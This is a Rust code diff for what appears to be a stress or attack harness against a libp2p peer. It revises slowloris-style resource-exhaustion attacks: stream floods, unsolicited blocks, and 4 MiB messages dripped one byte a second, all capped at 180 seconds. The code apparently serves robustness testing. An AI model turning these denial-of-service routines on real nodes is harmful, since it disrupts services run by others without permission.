@@ -10,7 +10,8 @@ use libp2p_stream::Control;
 use rand::rngs::StdRng;
 use rand::{RngCore, SeedableRng};
 use std::fmt::Display;
-use std::time::{Duration, Instant};
+use std::time::Duration;
+use tokio::time::timeout;
 
 /// What it does.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -25,7 +26,7 @@ pub enum Attack {
     Streams,
     /// Sends blocks of 1 MiB that nobody asked for.
     Blocks,
-    /// Announces messages of 4 MiB and sends one byte a second, on many streams.
+    /// Begins messages of 4 MiB and goes on with one byte a second, on many streams.
     Drops,
 }
 
@@ -79,39 +80,27 @@ pub async fn attack(given: &[String]) {
         .expect("an attack");
     let address: Multiaddr = address.parse().expect("an address");
     let count: u64 = count.parse().expect("a number");
-    let end = Instant::now() + ATTACK_MAX;
     let mut all = Vec::new();
     for seed in 0..count {
         let control = stock::connected(Security::Tls, address.clone()).await;
-        all.push(attack_on_and_on(
-            attack,
-            address.clone(),
-            control,
-            seed,
-            end,
-        ));
+        all.push(attack_on_and_on(attack, address.clone(), control, seed));
     }
     println!("attacking");
-    futures::future::join_all(all).await;
+    // However it goes, also if nobody ends us.
+    let _ = timeout(ATTACK_MAX, futures::future::join_all(all)).await;
 }
 
-async fn attack_on_and_on(
-    attack: Attack,
-    address: Multiaddr,
-    mut control: Control,
-    seed: u64,
-    end: Instant,
-) {
+async fn attack_on_and_on(attack: Attack, address: Multiaddr, mut control: Control, seed: u64) {
     let victim = peer(&address);
     let mut random = StdRng::seed_from_u64(seed);
-    while Instant::now() < end {
-        if once(attack, &mut control, victim, &mut random, end)
+    loop {
+        if once(attack, &mut control, victim, &mut random)
             .await
             .is_none()
         {
             match stock::try_connected(Security::Tls, address.clone()).await {
                 Ok(again) => control = again,
-                // It does not let us in: that is one way to be safe from us.
+                // It does not let us in: that is one way to be safe from us. Nothing tells when it would.
                 Err(_) => tokio::time::sleep(DIALS_PAUSE).await,
             }
         }
@@ -124,7 +113,6 @@ async fn once(
     control: &mut Control,
     victim: PeerId,
     random: &mut StdRng,
-    end: Instant,
 ) -> Option<()> {
     let mut stream = control.open_stream(victim, PROTOCOL).await.ok()?;
     match attack {
@@ -137,16 +125,17 @@ async fn once(
             while streams.len() < DROPPING_STREAMS {
                 streams.push(control.open_stream(victim, PROTOCOL).await.ok()?);
             }
-            let mut length = Vec::new();
-            put_varint(&mut length, 4 << 20);
+            let mut begun = Vec::new();
+            put_varint(&mut begun, 4 << 20);
+            begun.resize(begun.len() + BEGUN_BYTES, 0);
             for stream in &mut streams {
-                send(stream, &length).await?;
+                send(stream, &begun).await?;
             }
-            while Instant::now() < end {
+            loop {
                 for stream in &mut streams {
                     send(stream, &[0]).await?;
                 }
-                tokio::time::sleep(Duration::from_secs(1)).await;
+                tokio::time::sleep(DRIP_EVERY).await;
             }
         }
         Attack::Wants | Attack::Probes | Attack::Cancels | Attack::Blocks => {
@@ -219,6 +208,11 @@ fn block(random: &mut StdRng) -> Vec<u8> {
 pub const PART: &str = "attack";
 /// No attack lasts longer, whoever forgot to end it.
 const ATTACK_MAX: Duration = Duration::from_secs(180);
+/// What makes it slow: the pause between two bytes of one stream.
+const DRIP_EVERY: Duration = Duration::from_secs(1);
+/// Sent of a message before it drips: so much that room is kept for all of it.
+const BEGUN_BYTES: usize = 65 << 10;
+/// From a dial that was refused to the next.
 const DIALS_PAUSE: Duration = Duration::from_millis(100);
 const LINES_A_MESSAGE: usize = 1000;
 const MESSAGES_A_STREAM: usize = 16;
